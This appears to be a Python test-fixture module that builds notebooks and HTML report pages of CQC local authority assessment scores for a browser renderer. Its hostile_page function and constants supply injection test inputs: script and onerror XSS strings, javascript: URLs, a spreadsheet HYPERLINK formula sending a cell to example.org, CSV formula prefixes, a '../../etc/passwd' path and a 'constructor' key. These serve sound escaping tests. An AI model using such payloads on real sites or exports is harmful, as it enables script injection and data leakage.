"""Notebooks and pages made for the browser: with every element a notebook can show, and hostile ones."""

from __future__ import annotations

from datetime import date
from typing import Any

import nbformat
import pandas as pd

from cqclib.charts import base, parts
from cqclib.charts.canvas import Canvas
from cqclib.pipeline import run as pipeline
from cqclib.reference import framework
from cqclib.report import catalogue, front_door
from cqclib.report.html import elements as page
from cqclib.report.html import table as tables
from tests.figures import national

HOSTILE = """<script>window.hacked=1</script><img src=x onerror="window.hacked=1">'"&"""
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'
LINKS = [
    ("index.html", "Overview"),
    ("national.html", "National picture"),
    ("league_tables.html", "League tables"),
    ("focus_kent.html", "Kent"),
    ("how_to_read.html", "How to read this"),
]
NATIONAL = national(299, [("Assessing needs", "https://www.cqc.org.uk/press-release/example")])


def make_parts() -> None:
    """The pages about a part of the whole that a plain run does not make, and the links to them."""
    pipeline.make_report(catalogue.REGION, {"region": "London"})
    pipeline.make_report(catalogue.STATEMENT, {"statement": 7})
    front_door.write()


def shown(element: Any) -> nbformat.NotebookNode:
    """A code cell that shows ``element``, as a run would leave it."""
    data, metadata = element._repr_mimebundle_()
    output = nbformat.v4.new_output("display_data", data=data, metadata=metadata)
    return nbformat.v4.new_code_cell("element", outputs=[output])


def drawn(name: str, title: str, labels: list[str], values: list[float]) -> nbformat.NotebookNode:
    """A code cell with a bar chart and its title, as ``charts`` shows them."""
    chart = _bars(name, title, labels, values)
    caption = chart.caption
    facts = {
        "name": caption.name,
        "title": caption.title,
        "subtitle": caption.subtitle,
        "alt": caption.alt,
        "source": caption.source,
        "csv": chart.data.to_csv(index=False),
        "narrow": chart.narrow,
    }
    outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={"text/markdown": f"**{title}**  \nsubtitle"},
            metadata={"cqc": {"role": "chart-title"}},
        ),
        nbformat.v4.new_output(
            "display_data",
            data={"image/svg+xml": chart.wide, "text/plain": caption.alt},
            metadata={"image/svg+xml": {"cqc": facts}},
        ),
    ]
    return nbformat.v4.new_code_cell("chart", outputs=outputs)


def _bars(name: str, title: str, labels: list[str], values: list[float]) -> base.Chart:
    def draw(canvas: Canvas) -> None:
        for value, row in zip(values, parts.rows(canvas, labels, 10), strict=True):
            canvas.rect(row.left, row.y - 7, row.width * value / 4, 14, **parts.GREY)

    alt = f"{title}. " + "; ".join(map("{}: {}".format, labels, values))
    subtitle = "Average score per statement, 72 authorities, 3 October 2025"
    return base.chart(
        base.Caption(name, title, subtitle, alt),
        pd.DataFrame({"label": labels, "value": values}),
        draw,
    )


def notebook(*cells: nbformat.NotebookNode | str) -> nbformat.NotebookNode:
    """A notebook of these cells; text is Markdown."""
    made = nbformat.v4.new_notebook()
    made.cells = [nbformat.v4.new_markdown_cell(c) if isinstance(c, str) else c for c in cells]
    return made


def head(title: str, headline: str, *cards: tuple[str, str]) -> nbformat.NotebookNode:
    """A code cell with the header of a page."""
    kicker = "CQC local authority assessments · as at 3 October 2025 · 72 of 153 assessed"
    standfirst = "Joint 61st of 72 on total score, level with 3 others; above 8, below 60."
    return shown(
        page.Header(kicker, headline, standfirst, cards, title, date(2025, 10, 3), 72, 153)
    )


def _columns(extra: bool = True) -> list[tables.Column]:
    return [
        tables.Column("authority", "Authority", "link", url_key="report_url"),
        tables.Column("overall_rating", "Rating", "rating"),
        tables.Column("rank", "Rank", "number", "Ties share the best rank.", low_first=True),
        tables.Column("total", "Total", "number", "Sum of the nine scores, of 36."),
        tables.Column("percent", "Overall score", "number", "Total over 36 in %, rounded up."),
        *(
            tables.Column(statement.key, statement.short, "score")
            for statement in framework.STATEMENTS
            if extra
        ),
        tables.Column("report_month", "Reported", "month"),
    ]


def _statements() -> tuple[list[str], list[float]]:
    return [qs.name for qs in framework.STATEMENTS], [2.3, 2.4, 2.5, 2.6, 2.9, 2.4, 2.6, 2.7, 2.8]


def national_page(rows: pd.DataFrame) -> nbformat.NotebookNode:
    return notebook(
        "# National picture",
        head(
            "National picture: CQC local authority assessments",
            "Two thirds of the authorities assessed are good",
            ("48 of 72", "rated good (67%)"),
            ("2.60", "average score of 4"),
            ("Partnerships", "strongest statement"),
            ("Assessing needs", "weakest statement"),
        ),
        "## How the nine statements compare",
        shown(
            page.Prose(
                "Partnerships and communities is scored highest. "
                + page.link("How to read this", "how_to_read.html")
            )
        ),
        drawn("statements", "Partnerships lead, assessing needs trails", *_statements()),
        shown(page.Callout("The first and the last report are 17 months apart.")),
        "## By region",
        shown(page.Prose(["London has 20 of them.", "The North East has 6 of them."])),
        drawn("regions", "Few regions differ", sorted(set(rows["region"])), [2.5] * 9),
        "## Every authority",
        shown(tables.Table("all", "Every authority assessed", _columns(), rows)),
    )


def league_page(rows: pd.DataFrame) -> nbformat.NotebookNode:
    return notebook(
        head("League tables", "Two authorities are outstanding, one is inadequate"),
        "## All scores",
        shown(
            tables.Table(
                "league",
                "All nine scores of every authority assessed, best total first",
                _columns(),
                rows,
                note="Level totals share a rank.",
                interactive=True,
                filters=("overall_rating", "authority_type", "region"),
                groups={
                    theme.name: [framework.statement(n).key for n in theme.numbers]
                    for theme in framework.THEMES
                },
            )
        ),
        "## A second table",
        shown(
            tables.Table("second", "Totals alone", _columns(False), rows.head(20), interactive=True)
        ),
    )


def focus_page(rows: pd.DataFrame) -> nbformat.NotebookNode:
    near = rows[rows["region"] == "South East"]
    return notebook(
        head(
            "Kent: CQC local authority assessment",
            "Kent: requires improvement, 3 points short of good",
            ("56", "overall score"),
            ("2 of 9", "scored 3 or more"),
            ("Bottom quarter", "of 72"),
            ("7 of 15", "neighbours assessed"),
        ),
        drawn("profile", "Kent scores 3 in two statements", *_statements()),
        "## Its neighbours",
        shown(tables.Table("peers", "The South East", _columns(), near, highlight={"Kent"})),
    )


def hostile_page(rows: pd.DataFrame) -> nbformat.NotebookNode:
    rows = rows.head(4).copy()
    rows["authority"] = [HOSTILE, FORMULA, "@SUM(1)", "../../etc/passwd " + "long" * 80]
    rows["report_url"] = ["javascript:alert(1)", "https://example.org", "../../x.html", HOSTILE]
    rows["region"] = [HOSTILE, FORMULA, "-1+1", "+x"]
    columns = [
        tables.Column("authority", HOSTILE, "link", HOSTILE, url_key="report_url"),
        tables.Column("region", "Region", "text"),
        tables.Column("total", "Total", "number"),
    ]
    chart = drawn("hostile", HOSTILE, [HOSTILE, FORMULA], [1, 2])
    return notebook(
        head(HOSTILE, HOSTILE, (HOSTILE, HOSTILE)),
        f"## {HOSTILE}",
        shown(page.Prose(HOSTILE + page.link(HOSTILE, "javascript:alert(1)"))),
        shown(page.Callout(HOSTILE)),
        chart,
        shown(
            tables.Table(
                "bad",
                HOSTILE,
                columns,
                rows,
                note=HOSTILE,
                interactive=True,
                highlight={HOSTILE},
                filters=("region",),
                groups={HOSTILE: ["total"], "constructor": ["region"]},
            )
        ),
    )
